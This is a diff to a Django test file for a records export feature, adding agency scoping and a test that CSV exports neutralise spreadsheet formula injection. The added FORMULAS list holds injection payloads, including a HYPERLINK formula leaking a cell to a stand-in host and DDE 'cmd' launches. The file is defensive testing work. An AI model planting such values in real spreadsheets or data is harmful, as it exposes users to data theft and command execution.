@@ -12,11 +12,15 @@ import io
 
 import pytest
 from django.core.management import call_command
-from openpyxl import load_workbook
+from openpyxl import Workbook, load_workbook
 
+from custodiet.policy.model import parse_request
+from custodiet.records.actions import receive_and_decide
 from custodiet.records.export import EXPORT_FIELDS, LogFilter, export_rows
+from custodiet.records.spreadsheet import safe_row
 
 from . import pages
+from .conftest import ROBBERY, contract
 from .filters import FILTERS
 
 
@@ -45,7 +49,7 @@ def test_both_downloads_hold_the_rows_the_page_shows(log, privacy_officer, signe
 
 
 def test_the_csv_has_the_24_74_106_fields_exactly_as_export_rows_gives_them(
-    log, privacy_officer, signed_in
+    log, agency, privacy_officer, signed_in
 ):
     response = signed_in(privacy_officer).get(
         "/log/export.csv", {"start": "2025-03-01", "immigration_related": "yes"}
@@ -57,9 +61,11 @@ def test_the_csv_has_the_24_74_106_fields_exactly_as_export_rows_gives_them(
     )
     rows = csv_rows(response)
     assert list(rows[0]) == EXPORT_FIELDS
-    expected = list(export_rows(LogFilter(start=dt.date(2025, 3, 1), immigration_related=True)))
-    assert rows == expected
-    assert len(rows) == 4
+    expected = export_rows(
+        LogFilter(agency=agency, start=dt.date(2025, 3, 1), immigration_related=True)
+    )
+    assert rows == [safe_row(row) for row in expected]
+    assert len(rows) == 3  # the fourth is the State Patrol's
 
 
 def test_the_csv_is_byte_for_byte_what_the_command_writes(
@@ -75,6 +81,8 @@ def test_the_csv_is_byte_for_byte_what_the_command_writes(
         "2025-03-31",
         "--out",
         str(out),
+        "--agency",
+        "CO-DOR-DMV",
         stderr=io.StringIO(),
     )
     response = signed_in(privacy_officer).get(
@@ -84,7 +92,7 @@ def test_the_csv_is_byte_for_byte_what_the_command_writes(
 
 
 def test_the_workbook_has_a_bold_header_widths_real_dates_and_text_kept_as_text(
-    log, privacy_officer, signed_in
+    log, agency, privacy_officer, signed_in
 ):
     response = signed_in(privacy_officer).get("/log/export.xlsx", {"start": "2025-04-01"})
 
@@ -104,7 +112,7 @@ def test_the_workbook_has_a_bold_header_widths_real_dates_and_text_kept_as_text(
     assert sheet.column_dimensions["N"].width == 60  # the reasons
     assert sheet.freeze_panes == "B2"
 
-    expected = list(export_rows(LogFilter(start=dt.date(2025, 4, 1))))
+    expected = list(export_rows(LogFilter(agency=agency, start=dt.date(2025, 4, 1))))
     rows = list(sheet.iter_rows(min_row=2))
     assert len(rows) == len(expected) == 3
     for cells, row in zip(rows, expected, strict=True):
@@ -128,7 +136,7 @@ def test_the_workbooks_second_sheet_has_the_monthly_counts_of_the_chart(
     log, privacy_officer, signed_in
 ):
     client = signed_in(privacy_officer)
-    query = {"start": "2024-12-01", "end": "2025-04-30", "receiving_agency": "CO-DOR-DMV"}
+    query = {"start": "2024-12-01", "end": "2025-04-30"}
     table = pages.month_table(client.get("/log/", query))
 
     sheet = workbook(client.get("/log/export.xlsx", query))["By month"]
@@ -154,3 +162,51 @@ def test_an_empty_selection_downloads_the_header_alone(log, privacy_officer, sig
     assert csv_rows(client.get("/log/export.csv", {"channel": "portal"})) == []
     sheet = workbook(client.get("/log/export.xlsx", {"channel": "portal"}))["Requests"]
     assert [row for row in sheet.iter_rows(values_only=True)] == [tuple(EXPORT_FIELDS)]
+
+
+# Cells a spreadsheet would run: OWASP's list, and what attackers write after them.
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?leak="&B2, "open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _opened_as_a_spreadsheet_would(lines: list[list[str]]):
+    """Each cell typed into a worksheet, as a spreadsheet program imports a CSV."""
+    sheet = Workbook().active
+    for row in lines:
+        sheet.append(row)
+    return sheet
+
+
+def test_no_cell_of_either_csv_export_is_read_as_a_formula(
+    agency, privacy_officer, signed_in, tmp_path
+):
+    requests = [
+        contract(
+            f"2025-04-{day:02d}T09:00",
+            ROBBERY,
+            {"purpose": formula, "requester": {"name": formula}},
+        )
+        for day, formula in enumerate(FORMULAS, start=1)
+    ]
+    receive_and_decide([parse_request(r) for r in requests], actor="import:test", agency=agency)
+    response = signed_in(privacy_officer).get("/log/export.csv")
+    web = b"".join(response.streaming_content).decode()
+    out = tmp_path / "log.csv"
+    call_command("requests", "export", "--out", str(out), stderr=io.StringIO())
+
+    for text in (web, out.read_text(encoding="utf-8")):
+        lines = list(csv.reader(io.StringIO(text, newline="")))
+        assert len(lines) == 1 + len(FORMULAS)
+        sheet = _opened_as_a_spreadsheet_would(lines)
+        cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
+        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+        assert not [cell.value for cell in cells if str(cell.value)[0] in "=+-@\t\r"]
+        purposes = [row[EXPORT_FIELDS.index("purpose_stated")] for row in lines[1:]]
+        # The words are all there (stripped at intake), behind the quote that keeps them text.
+        assert purposes == ["'" + formula.strip() for formula in FORMULAS]
